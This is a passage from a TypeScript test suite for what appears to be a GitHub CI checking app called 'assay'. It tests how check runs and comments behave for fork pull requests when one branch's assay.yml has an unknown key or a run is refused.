    expect(await commentsOf(pull)).toMatchObject([{ body: expect.stringContaining('late-flights: pass') }])

    const before = scene.github.world.requests.length
    await round()
    const asked = scene.github.world.requests.slice(before).filter(({ path }) => path.includes('flights'))
    expect(writesAfter(before)).toEqual([])
    const ofCommit = asked.filter(({ path }) => path.includes(pull.sha))
    expect(ofCommit.map(({ path }) => path.replace(/^.*\/|\?.*$/g, ''))).toEqual(['check-runs'])
  })

  it('is found on all other branches also where the assay.yml of one cannot be read, or one run is refused', async () => {
    const { data: main } = await scene.ada.git.getRef({ ...OURS, ref: 'heads/main' })
    await scene.ada.git.createRef({ ...OURS, ref: 'refs/heads/legacy', sha: main.object.sha })
    const { data: there } = await scene.ada.repos.getContent({ ...OURS, path: 'assay.yml' })
    await scene.ada.repos.createOrUpdateFileContents({
      ...OURS,
      branch: 'legacy',
      path: 'assay.yml',
      message: 'gates',
      content: Buffer.from(CONFIG.replace('gates:', 'gatez:')).toString('base64'),
      sha: (there as { sha: string }).sha,
    })
    const [before, broken, refused, after] = [
      await fromFork(),
      await fromFork(undefined, undefined, 'legacy'),
      await fromFork(),
      await fromFork(),
    ]
    lost = true
    for (const pull of [before, broken, refused, after])
      await runWith(pull, {
        files: { 'result.json': judgedAt(pull.sha) },
        ...(pull === refused && { serve: response => void response.writeHead(400).end() }),
      })
    lost = false
    await round()

    for (const pull of [before, after])
      expect(await checksOf(pull.sha)).toMatchObject([{ name: 'assay / late-flights' }])
    expect(await commentsOf(broken)).toEqual([])
    const { data } = await scene.ada.checks.listForRef({ ...OURS, ref: broken.sha })
    expect(data.check_runs).toMatchObject([{ name: 'assay', conclusion: 'neutral' }])
    expect(data.check_runs[0]!.output.summary!.replaceAll('\u200b', '').split('\n')).toEqual([
      '- assay.yml:4:1 of legacy: unknown key `gatez`; did you mean `gates`?',
      '- once that is put right there, run the workflow again',
    ])
  })
})
